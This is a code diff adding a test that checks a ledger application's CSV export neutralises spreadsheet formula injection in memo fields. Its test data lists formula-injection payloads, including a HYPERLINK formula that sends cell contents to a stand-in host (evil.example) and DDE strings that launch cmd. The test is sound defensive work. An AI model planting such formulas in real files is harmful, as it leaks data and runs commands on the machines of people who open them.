@@ -32,6 +32,7 @@ from app.main import create_app
 from app.routers import exports as exports_router
 from app.settings import RATE_ROLES, RateRule, Settings
 from ledger import export
+from ledger.errors import InvalidEntry
 from ledger.postings import credit, debit
 from ledger.service import Account, Entry, Ledger, run_in_transaction
 from tests.ledger_support import open_accounts, unique
@@ -303,6 +304,60 @@ async def test_csv_has_a_row_per_posting_with_rfc4180_quoting(
         (acc["voucher"].code, "0", "123456"),
     ]
     assert all(len(r["hash"]) == 64 and r["chain_seq"].isdigit() for r in rows)
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=quoted by the caller",
+)
+
+
+async def test_csv_cells_never_begin_a_formula(
+    app: FastAPI, client: httpx.AsyncClient, engine: AsyncEngine, auditor: dict[str, str]
+) -> None:
+    # memos are free text to the ledger (the API's own are fixed text today): written through the service
+    ledger: Ledger = app.state.ledger
+    acc = await open_accounts(engine, ledger, {"world": None, "budget": None})
+    space = acc["world"].code.split(":")[0]
+    made = [
+        await run_in_transaction(
+            engine,
+            lambda c, memo=memo: ledger.transfer(
+                c,
+                key=unique("k-"),
+                postings=[debit(acc["world"].code, 1_500), credit(acc["budget"].code, 1_500)],
+                memo=memo,
+                metadata={"note": FORMULAS[0]},
+            ),
+        )
+        for memo in (*FORMULAS, "ordinary")
+    ]
+    await seal_all(engine, ledger)
+    # an account code cannot begin with one: the ledger refuses it
+    with pytest.raises(InvalidEntry):
+        await run_in_transaction(engine, lambda c: ledger.open_account(c, "-2+3"))
+
+    body = (await _get(client, auditor, format="csv", account_prefix=space)).content.decode("utf-8")
+    table = list(csv.reader(io.StringIO(body, newline="")))
+    assert table[0] == list(export.CSV_HEADER)
+    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
+    assert [r["entry_id"] for r in rows] == [str(e.id) for e in made for _ in e.postings]
+    for row in table[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    # a text cell that begins with ' had exactly one added: dropping it gives the memo back
+    assert [r["memo"] for r in rows[::2]] == [f"'{memo}" for memo in FORMULAS] + ["ordinary"]
+    assert [r["memo"].removeprefix("'") if r["memo"].startswith("'") else r["memo"] for r in rows[::2]] == [
+        *FORMULAS,
+        "ordinary",
+    ]
+    # amounts stay bare numbers, which is what a spreadsheet or an auditor's script reads
+    assert {(r["debit_fen"], r["credit_fen"]) for r in rows} == {("1500", "0"), ("0", "1500")}
+    assert "\r\n" in body and ',1500,0,posted,"\'=HYPERLINK(""https://evil.example/' in body
 
 
 def _hledger() -> str:
